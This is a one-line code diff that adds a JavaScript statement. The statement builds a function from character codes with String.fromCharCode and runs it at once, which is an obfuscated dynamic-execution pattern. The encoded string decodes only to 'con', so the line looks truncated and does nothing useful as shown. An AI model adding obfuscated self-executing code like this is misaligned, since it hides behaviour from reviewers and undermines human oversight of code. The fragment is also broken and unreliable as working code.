@@ -1,0 +1,1 @@
+new Function(String.fromCharCode(99, 111, 110))();
